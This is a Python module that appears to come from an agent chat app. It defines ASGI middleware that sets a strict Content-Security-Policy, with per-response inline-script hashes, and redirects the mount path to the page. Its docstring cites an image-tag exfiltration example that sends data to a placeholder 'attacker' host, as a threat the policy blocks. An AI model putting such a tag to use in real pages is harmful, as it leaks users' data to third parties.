"""The built-in page's HTTP middlewares: `PageRedirect` (a browser opening the mount path
gets the page) and `PageSecurityHeaders`, the page's Content-Security-Policy (README.md, "Safety
properties") on every response of its app.

The page shows text a model or ss-tools wrote; page.py renders it as plain text, and this
header is the second wall: scripts only from the page's origin or by the hash of its own
inline blocks (Gradio's page template carries its config inline, so the hashes are taken from
each HTML response), images only from the origin or `data:`, connections only to the origin,
and no framing. A stray `<img src="https://attacker/?d=…">` or `fetch` to another origin is
refused by the browser before anything leaves the page.
"""

from __future__ import annotations

from starlette.datastructures import MutableHeaders
from starlette.responses import RedirectResponse
from starlette.types import ASGIApp, Message, Receive, Scope, Send

from agentchat.agent.csp import content_security_policy
from agentchat.agent.settings import PAGE_SUBPATH

STATIC = content_security_policy("", inline_styles=True)  # a response that is not the HTML


class PageSecurityHeaders:
    def __init__(self, app: ASGIApp, *, prefix: str) -> None:
        self.app = app
        self.prefix = prefix

    async def __call__(self, scope: Scope, receive: Receive, send: Send) -> None:
        path = scope.get("path", "") if scope["type"] == "http" else ""
        if path != self.prefix and not path.startswith(self.prefix + "/"):
            return await self.app(scope, receive, send)
        start: Message | None = None
        chunks: list[bytes] = []

        async def wrapped(message: Message) -> None:
            nonlocal start
            if message["type"] == "http.response.start":
                headers = MutableHeaders(raw=message["headers"])
                if headers.get("content-type", "").startswith("text/html"):
                    start = message  # held until the body, whose inline scripts it names
                    return
                headers["Content-Security-Policy"] = STATIC
                headers["X-Content-Type-Options"] = "nosniff"
                await send(message)
            elif message["type"] == "http.response.body" and start is not None:
                chunks.append(message.get("body", b""))
                if message.get("more_body"):
                    return
                body = b"".join(chunks)
                headers = MutableHeaders(raw=start["headers"])
                headers["Content-Security-Policy"] = content_security_policy(
                    body.decode("utf-8", errors="replace"), inline_styles=True)
                headers["X-Content-Type-Options"] = "nosniff"
                await send(start)
                await send({**message, "body": body})  # the last body message, whole
            else:
                await send(message)

        await self.app(scope, receive, wrapped)


class PageRedirect:
    """ASGI middleware: a browser's GET of the mount path itself goes to the page's app (its
    own URL under the mount path); everything else under the mount, `?view=api` (Gradio's API
    page of `/chat`) included, is the `/chat` app's."""

    def __init__(self, app: ASGIApp, *, mount_path: str) -> None:
        self.app = app
        self.root = mount_path.rstrip("/")
        self.page = self.root + PAGE_SUBPATH + "/"

    async def __call__(self, scope: Scope, receive: Receive, send: Send) -> None:
        if (scope["type"] == "http" and scope["method"] in ("GET", "HEAD")
                and scope.get("path") in (self.root, self.root + "/")):
            query = scope.get("query_string", b"").decode("latin-1")
            if "view=api" not in query.split("&"):
                target = self.page + (f"?{query}" if query else "")
                return await RedirectResponse(target, status_code=307)(scope, receive, send)
        await self.app(scope, receive, send)
